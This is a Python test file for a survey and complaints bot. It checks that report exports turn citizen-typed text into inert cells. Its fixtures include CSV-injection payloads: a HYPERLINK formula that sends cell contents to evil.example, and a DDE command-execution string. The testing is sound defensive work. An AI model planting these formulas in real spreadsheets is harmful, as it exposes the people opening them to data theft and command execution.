"""Exports never run what a person typed: no formula cell, no broken workbook, no mathtext.

Suggestions and complaints are written by citizens; unit names by whoever edits the directory
file. The files are written for real and opened again (openpyxl, pypdf, csv).
"""

from __future__ import annotations

import argparse
import csv
import io
from datetime import UTC, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader
from sqlalchemy import update

from bot.cli_reports import dispatch, register
from bot.settings import Settings
from reports.cells import safe_text
from reports.complaints_recap import write_recap
from storage import Storage
from storage.complaints import ComplaintRow
from storage.models import SurveyResponse
from survey_flows.complaints import ComplaintStatus
from tests.support.directory import load_small_directory

HEADER = (
    "unit,date,service_type,age,gender,education,occupation,U1,U2,U3,U4,U5,U6,U7,U8,U9,suggestion"
)
ROW = "dukcapil-mpp,2026-01-{day:02d},KTP-el,17-25,L,SMA,PNS,4,4,4,4,4,4,4,4,4,{text}"
POISON = [
    '"=HYPERLINK(""http://evil.example/?""&A1,""klik"")"',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    r"Harga $\foo$ mahal",
    "plain and fine",
]
CONTROL = "kipas\x01 rusak"
WIT = ZoneInfo("Asia/Jayapura")


async def run(argv: list[str], settings: Settings) -> int | None:
    parser = argparse.ArgumentParser(prog="skm-bot")
    register(parser.add_subparsers(dest="command", required=True))
    return await dispatch(parser.parse_args(argv), settings)


@pytest.fixture
async def settings(pg_storage: Storage, pg_url: str, tmp_path: Path) -> Settings:
    """The small directory, seven poisoned paper suggestions, and one holding ``\\x01``."""
    await load_small_directory(pg_storage)
    configured = Settings(database_url=pg_url)
    lines = [HEADER] + [ROW.format(day=n + 1, text=t) for n, t in enumerate(POISON)]
    lines.append(ROW.format(day=20, text="placeholder"))
    paper = tmp_path / "paper.csv"
    paper.write_text("\n".join(lines) + "\n", encoding="utf-8")
    assert await run(["responses", "import", str(paper)], configured) == 0
    # A control character stored by an older version (paper import removes them now).
    async with pg_storage.sessions() as session, session.begin():
        await session.execute(
            update(SurveyResponse)
            .where(SurveyResponse.suggestion == "placeholder")
            .values(suggestion=CONTROL)
        )
    return configured


def test_safe_text_follows_owasp() -> None:
    assert [safe_text(v) for v in ("=1", "+1", "-1", "@a", "\tx", "\rx", "a=1")] == [
        "'=1",
        "'+1",
        "'-1",
        "'@a",
        "'\tx",
        "x",  # CR is a control character: removed, and what is left is plain
        "a=1",
    ]
    assert safe_text("a\x00b\x01c\x1bd\x7fe\n\tf") == "abcde\n\tf"


async def test_xlsx_suggestions_are_text_never_formulas(settings: Settings, tmp_path: Path) -> None:
    path = tmp_path / "report.xlsx"
    assert await run(["report", "--period", "2026-Q1", "-o", str(path)], settings) == 0
    sheet = load_workbook(path)["Saran"]
    cells = [row[3] for row in sheet.iter_rows(min_row=2) if row[0].value == "dukcapil-mpp"]
    texts = {cell.value for cell in cells}
    assert all(cell.data_type == "s" for cell in cells)
    assert not any(str(value).startswith(("=", "+", "-", "@")) for value in texts)
    assert "'=cmd|' /C calc'!A0" in texts and "'@SUM(1+1)" in texts and "'-2+3" in texts
    assert "kipas rusak" in texts and r"Harga $\foo$ mahal" in texts


async def test_pdf_shows_dollar_text_literally(settings: Settings, tmp_path: Path) -> None:
    path = tmp_path / "report.pdf"
    argv = ["report", "--period", "2026-Q1", "--format", "pdf", "-o", str(path)]
    assert await run(argv, settings) == 0
    text = "".join(page.extract_text() for page in PdfReader(path).pages)
    assert "$\\foo$" in text
    assert not (tmp_path / "report.pdf.part").exists()


async def test_csv_report_neutralises_typed_names(pg_storage: Storage, tmp_path: Path) -> None:
    from storage.directory_import import OpdSpec, UnitSpec, apply_directory

    async with pg_storage.transaction() as tx:
        unit = UnitSpec(code="u1", name="=HYPERLINK(1)", service_types=("Layanan",))
        await apply_directory(tx, (OpdSpec("opd", "@OPD", (unit,)),), datetime.now(UTC))
    path = tmp_path / "report.csv"
    configured = Settings(database_url=str(pg_storage.engine.url.render_as_string(False)))
    assert await run(["report", "--period", "2026", "-o", str(path)], configured) == 0
    rows = list(csv.DictReader(io.StringIO(path.read_text("utf-8"))))
    assert rows[0]["unit_name"] == "'=HYPERLINK(1)"


def complaint(description: str, unit: str = "dukcapil-mpp") -> ComplaintRow:
    at = datetime(2026, 3, 2, 1, 0, tzinfo=UTC)
    return ComplaintRow(
        ticket="T-ABC123",
        opd_code="+opd",
        unit_code=unit,
        kind="layanan",
        status=next(iter(ComplaintStatus)),
        anonymous=False,
        confidential=False,
        channel="whatsapp",
        description=description,
        created_at=at,
        verify_by=at,
        verified_at=None,
        answer_by=at,
        answered_at=None,
        rating=None,
    )


def test_complaints_export_xlsx_and_csv(tmp_path: Path) -> None:
    rows = [complaint('=HYPERLINK("http://evil.example")'), complaint("bocor\x01 atap", "-u")]
    now = datetime(2026, 4, 1, tzinfo=UTC)
    write_recap(tmp_path / "c.xlsx", "xlsx", rows, now, WIT, "2026-03")  # no IllegalCharacterError
    book = load_workbook(tmp_path / "c.xlsx")
    details = [[c.value for c in row] for row in book["Pengaduan"].iter_rows(min_row=2)]
    descriptions = [row[-1] for row in details]
    assert descriptions == ['\'=HYPERLINK("http://evil.example")', "bocor atap"]
    assert [c.value for c in book["Rekap"][3]][:2] == ["'+opd", "dukcapil-mpp"]
    write_recap(tmp_path / "c.csv", "csv", rows, now, WIT, "2026-03")
    cells = [row[:2] for row in csv.reader(io.StringIO((tmp_path / "c.csv").read_text()))]
    assert ["'+opd", "'-u"] in cells
